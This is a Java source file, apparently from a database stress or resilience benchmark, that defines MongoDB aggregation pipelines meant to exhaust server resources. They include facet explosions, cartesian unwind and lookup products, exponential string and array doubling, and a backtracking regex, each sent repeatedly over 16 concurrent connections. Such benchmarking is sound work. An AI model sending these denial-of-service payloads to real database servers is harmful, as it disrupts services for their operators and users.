package dev.mayfly.bench.attacker;

import dev.mayfly.bench.client.MongoConnection;
import java.util.LinkedHashMap;
import java.util.Map;
import org.bson.BsonDocument;
import org.bson.BsonString;

/** Aggregations that need far more time or memory than their text suggests. */
final class Pipelines {
  private static final int CONNECTIONS = 16;

  static final Map<String, Attack> ALL = all();

  private Pipelines() {}

  private static Map<String, Attack> all() {
    Map<String, String> texts = new LinkedHashMap<>();
    String explode =
        "{$limit: 1}, {$project: {r: {$range: [0, 1000000]}}}, {$unwind: '$r'}, "
            + "{$group: {_id: '$r', n: {$sum: 1}}}";
    texts.put("facet", facet(explode));
    texts.put("group-push", "{$group: {_id: null, all: {$push: '$$ROOT'}}}");
    texts.put("group-keys", explode + ", {$sort: {_id: 1}}, {$limit: 1}");
    texts.put(
        "unwind-product",
        "{$unwind: '$a'}, {$addFields: {b: {$range: [0, 1000]}}}, {$unwind: '$b'},"
            + " {$group: {_id: null, n: {$sum: '$b'}}}");
    texts.put(
        "lookup-product",
        "{$lookup: {from: 'documents', pipeline: [{$match: {$expr: {$gt: ['$n', -1]}}}], as: 'x'}},"
            + " {$unwind: '$x'}, {$group: {_id: '$x.n', n: {$sum: 1}}}");
    texts.put(
        "graph-lookup",
        "{$graphLookup: {from: 'documents', startWith: '$n', connectFromField: 'next',"
            + " connectToField: 'n', as: 'x'}}, {$group: {_id: null, n: {$sum: {$size: '$x'}}}}");
    texts.put("sort", "{$unwind: '$a'}, {$sort: {filler: 1, a: -1}}, {$skip: 100000}");
    texts.put(
        "text-doubling",
        "{$project: {s: {$reduce: {input: {$range: [0, 40]}, initialValue: 'x', in:"
            + " {$concat: ['$$value', '$$value']}}}}}");
    texts.put(
        "array-doubling",
        "{$project: {s: {$reduce: {input: {$range: [0, 40]}, initialValue: [1], in:"
            + " {$concatArrays: ['$$value', '$$value']}}}}}");
    texts.put(
        "regex",
        "{$match: {filler: {$regex: '(.*m.*a.*y.*f.*l.*y.*)*z$'}}},"
            + " {$group: {_id: null, n: {$sum: 1}}}");
    Map<String, Attack> all = new LinkedHashMap<>();
    texts.forEach((name, text) -> all.put(name, arena -> run(arena, text)));
    return all;
  }

  private static String facet(String explode) {
    StringBuilder facet = new StringBuilder("{$facet: {");
    for (int i = 0; i < 200; i++) {
      facet.append("f").append(i).append(": [").append(explode).append("],");
    }
    return facet.append("}}").toString();
  }

  private static void run(Arena arena, String pipeline) {
    BsonDocument command =
        BsonDocument.parse(
                "{aggregate: '%s', pipeline: [%s], cursor: {}, allowDiskUse: true}"
                    .formatted(Target.COLLECTION, pipeline))
            .append("$db", new BsonString(Target.DATABASE));
    byte[] message = MongoConnection.message(command);
    arena.threads(
        CONNECTIONS,
        thread -> {
          try (MongoConnection connection = arena.login()) {
            connection.socket().setSoTimeout(120_000);
            while (!arena.isOver()) {
              arena.tally().count("asked");
              connection.send(message);
              arena.tally().reply(connection.receive());
            }
          }
        });
  }
}
